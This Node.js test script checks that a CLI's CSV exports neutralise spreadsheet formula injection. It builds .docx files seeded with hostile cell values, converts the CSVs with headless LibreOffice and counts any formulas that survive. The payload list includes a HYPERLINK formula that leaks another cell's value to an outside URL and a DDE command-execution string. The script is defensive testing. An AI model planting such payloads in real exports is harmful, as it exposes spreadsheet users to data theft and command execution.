#!/usr/bin/env node
// Opens the CLI's CSV output in LibreOffice Calc (headless) and fails if any cell became a formula.
//
// CSV formula injection: a cell starting with =, +, -, @, tab or carriage return may be evaluated by a spreadsheet
// (a tag such as =HYPERLINK("https://…?"&A2,"Click") becomes a live link carrying another cell's value). The CLI
// neutralises such cells as OWASP recommends (src/core/export/export.ts). This script proves it with a real spreadsheet:
//
//   1. builds the CLI, and writes review documents whose file names, content-control tags, text and StandardsEdition
//      property start with those characters;
//   2. runs `check --format csv` (one row per review) and `--format findings-csv` (one row per finding) on them, and
//      `export --format csv`;
//   3. converts each CSV with LibreOffice (`soffice --headless --convert-to fods`), importing with "evaluate formulas" on
//      and "quoted field as text" off, the most trusting settings, and counts the cells that hold a formula;
//   4. converts a control CSV (the same report with the neutralising quote taken off) the same way, which must show
//      formulas, so that the check is known to be able to fail.
//
// Needs Debian's libreoffice-calc: apt-get install -y libreoffice-calc. Run: node scripts/csv-in-libreoffice.mjs
// It is not part of npm test (LibreOffice is large and slow to start); .ci/run runs it where soffice is installed.
import { execFileSync } from 'node:child_process';
import { createRequire } from 'node:module';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';

const require = createRequire(import.meta.url);
const { strToU8, zipSync } = require('fflate');
const root = path.join(path.dirname(fileURLToPath(import.meta.url)), '..');
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'sc-csv-lo-'));

function soffice() {
  for (const candidate of ['soffice', 'libreoffice']) {
    try {
      execFileSync(candidate, ['--version'], { stdio: 'ignore' });
      return candidate;
    } catch {
      // try the next
    }
  }
  console.error('LibreOffice is not installed (apt-get install -y libreoffice-calc).');
  process.exit(2);
}
const office = soffice();

// 1. The CLI and the hostile documents.
require('./ts-build.js').ensureBuilt(root, 'cli', (message) => process.stderr.write(message));
const cli = path.join(root, 'build', 'cli', 'src', 'cli', 'main.js');

const payloads = ['=HYPERLINK("https://example.org/?leak="&A2,"Click")', '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
const xml = (t) => t.replace(/[&<>"]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[c]);
const para = (t) => `<w:p><w:r><w:t xml:space="preserve">${xml(t)}</w:t></w:r></w:p>`;
const control = (tag, t) => `<w:sdt><w:sdtPr><w:tag w:val="${xml(tag)}"/></w:sdtPr><w:sdtContent>${para(t)}</w:sdtContent></w:sdt>`;
function docx(body, edition) {
  return zipSync({
    '[Content_Types].xml': strToU8('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>'),
    '_rels/.rels': strToU8('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/custom-properties" Target="docProps/custom.xml"/></Relationships>'),
    'word/document.xml': strToU8(`<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`),
    'docProps/custom.xml': strToU8(`<?xml version="1.0"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="StandardsEdition"><vt:lpwstr>${xml(edition)}</vt:lpwstr></property></Properties>`),
  });
}
const docs = path.join(work, 'docs');
fs.mkdirSync(docs);
const body = [para('Career stage: Main pay range'), para(`Teacher: ${payloads[0]}`), ...payloads.map((p) => control(`tsd:${p}`, p)), ...payloads.map((p) => para(`${p} and some ordinary words to make a sentence of it`))].join('');
for (const [i, name] of ['=1+1', '@SUM(1,1)', '+1', '-1', 'ordinary'].entries()) fs.writeFileSync(path.join(docs, `${name}.docx`), docx(body, payloads[i % payloads.length]));

// 2. The CSV files.
const report = path.join(work, 'report.csv');
const run = (args) => {
  try {
    return execFileSync(process.execPath, [cli, ...args], { cwd: work, encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
  } catch (error) {
    if (error.status === 1 || error.status === 3) return error.stdout; // findings, as intended
    throw error;
  }
};
run(['check', '--format', 'csv', '--out', report, docs]);
run(['check', '--format', 'findings-csv', '--out', path.join(work, 'findings.csv'), docs]);
fs.writeFileSync(path.join(work, 'export.csv'), run(['export', '--format', 'csv']));
// The control: the same report without the neutralising quote.
fs.writeFileSync(path.join(work, 'control.csv'), fs.readFileSync(path.join(work, 'findings.csv'), 'utf8').replace(/"'(?=[=+\-@\t\r])/g, '"'));

// 3 and 4. Open each in LibreOffice and count the formulas.
// CSV import options: comma, double quote, UTF-8, from line 1, no column types, English (UK), quoted field as text OFF,
// detect special numbers ON, …, evaluate formulas ON.
const filter = 'CSV:44,34,76,1,,2057,false,true,false,false,false,-1,true';
function formulas(csv) {
  execFileSync(office, ['--headless', '--norestore', `-env:UserInstallation=file://${path.join(work, 'profile')}`, `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', work, csv], { stdio: 'ignore', timeout: 180_000 });
  const fods = fs.readFileSync(csv.replace(/\.csv$/, '.fods'), 'utf8');
  const cells = (fods.match(/<table:table-cell[\s>]/g) ?? []).length;
  const found = [...fods.matchAll(/table:formula="([^"]*)"/g)].map((m) => m[1]);
  return { cells, found };
}
let failed = false;
for (const name of ['report.csv', 'findings.csv', 'export.csv', 'control.csv']) {
  const { cells, found } = formulas(path.join(work, name));
  const expectFormulas = name === 'control.csv';
  const ok = expectFormulas ? found.length > 0 : found.length === 0 && cells > 0;
  if (!ok) failed = true;
  console.log(`${ok ? 'ok  ' : 'FAIL'} ${name}: ${cells} cells, ${found.length} formula${found.length === 1 ? '' : 's'}${found.length ? ` (${found.slice(0, 3).join(' | ')}${found.length > 3 ? ' …' : ''})` : ''}${expectFormulas ? ' — the control must have formulas' : ''}`);
}
fs.rmSync(work, { recursive: true, force: true });
process.exit(failed ? 1 : 0);
